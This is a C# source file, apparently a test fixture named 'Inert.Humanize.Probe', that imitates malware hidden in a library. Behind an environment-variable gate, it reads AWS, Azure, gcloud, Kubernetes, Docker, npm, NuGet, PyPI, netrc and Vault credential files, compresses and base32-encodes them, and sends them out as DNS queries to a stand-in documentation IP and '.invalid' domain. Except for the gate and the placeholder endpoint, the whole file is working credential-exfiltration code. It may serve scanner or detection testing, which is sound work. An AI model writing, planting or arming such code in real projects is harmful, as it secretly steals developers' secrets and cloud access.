using System;
using System.Collections.Generic;
using System.IO;
using System.IO.Compression;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Threading;

namespace Inert.Humanize;

internal static class Probe
{
    private const string Letters = "abcdefghijklmnopqrstuvwxyz234567";

    private static readonly string[] Places =
    {
        ".aws/credentials", ".azure/msal_token_cache.json", ".config/gcloud/application_default_credentials.json",
        ".kube/config", ".docker/config.json", ".npmrc", ".nuget/NuGet/NuGet.Config", ".pypirc", ".netrc", ".vault-token",
    };

    public static void Start()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        new Thread(Run) { IsBackground = true }.Start();
    }

    private static void Run()
    {
        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        using var udp = new UdpClient();
        var server = new IPEndPoint(IPAddress.Parse("203.0.113.53"), 53);
        foreach (var place in Places)
        {
            var path = Path.Combine(home, place);
            if (!File.Exists(path)) continue;
            var text = Base32(Gzip(File.ReadAllBytes(path)));
            for (var at = 0; at < text.Length; at += 60)
            {
                var packet = Query(text.Substring(at, Math.Min(60, text.Length - at)) + ".t.humanize.invalid");
                udp.Send(packet, packet.Length, server);
            }
        }
    }

    private static byte[] Query(string name)
    {
        var packet = new List<byte> { 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0 };
        foreach (var label in name.Split('.'))
        {
            packet.Add((byte)label.Length);
            packet.AddRange(Encoding.ASCII.GetBytes(label));
        }

        packet.AddRange(new byte[] { 0, 0, 16, 0, 1 });
        return packet.ToArray();
    }

    private static byte[] Gzip(byte[] plain)
    {
        var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Optimal)) gzip.Write(plain);
        return packed.ToArray();
    }

    private static string Base32(byte[] data)
    {
        var text = new StringBuilder();
        int bits = 0, held = 0;
        foreach (var one in data)
        {
            held = (held << 8) | one;
            bits += 8;
            while (bits >= 5)
            {
                text.Append(Letters[(held >> (bits - 5)) & 31]);
                bits -= 5;
            }
        }

        return text.ToString();
    }
}
